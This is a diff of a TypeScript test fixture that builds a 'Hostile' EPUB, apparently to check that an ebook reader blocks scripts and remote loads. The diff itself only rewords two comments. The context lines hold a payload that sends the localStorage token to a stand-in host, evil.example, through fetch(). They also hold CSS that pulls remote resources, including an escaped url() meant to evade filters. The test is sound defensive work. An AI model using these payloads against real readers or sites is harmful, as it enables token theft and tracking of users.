@@ -1,6 +1,6 @@
 import { epub } from './ebooks.ts'
 
-/** No handler for there; a request for it would be seen by the browser all the same. */
+/** Nothing answers there, but the browser would still report a request to it. */
 export const EVIL = 'https://evil.example'
 
 const STEAL = `fetch('${EVIL}/?' + localStorage.getItem('token')); top.stolen = true`
@@ -15,7 +15,7 @@ const CSS = `@import url("${EVIL}/import.css"); @import "${EVIL}/import2.css";
 body { font-family: Evil; background-image: url('${EVIL}/background.png'); }
 p::after { content: url(${EVIL}/after.png); } li { list-style: u\\72l(${EVIL}/escaped.png); }`
 
-/** Tries everything a page can try: to run, to load, to send, to lead away. */
+/** Tries everything a page can try: running scripts, loading, sending, navigating away. */
 export const hostileEpub = (): Buffer =>
   epub({
     title: 'Hostile',
